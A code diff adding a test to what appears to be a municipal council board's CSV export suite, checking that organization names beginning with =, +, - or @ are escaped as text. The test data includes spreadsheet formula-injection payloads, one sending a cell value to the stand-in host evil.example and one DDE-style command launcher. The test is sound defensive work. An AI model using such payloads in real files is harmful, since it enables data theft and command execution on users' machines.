@@ -391,4 +391,21 @@ describe('the council board and the export', () => {
     });
     expect((await res.text()).split(/\r?\n/)[0]).toBe(HEADERS.uz.join(','));
   });
+
+  it('never hands a spreadsheet a formula: a name beginning with =, +, - or @ comes out as text', async () => {
+    // An organization chooses its own name, and an appeal names the organization it is about.
+    const attacks = [
+      '=HYPERLINK("http://evil.example/?d="&A2,"Batafsil")',
+      "+998 cmd|' /C calc'!A0",
+      '-1+1 Xizmat',
+      '@SUM(1+1)',
+    ];
+    for (const name of attacks) {
+      const s = await newScene(env);
+      await env.em().execute('update management_organization set name = ? where id = ?', [name, s.org.id]);
+      await submit(env, s);
+      const rows = await exportCsv(s.org.tokens.council, `?districtId=${s.org.districtId}`, { lang: 'ru' });
+      expect(rows.map((r) => r.responsible)).toEqual([`'${name}`]);
+    }
+  });
 });
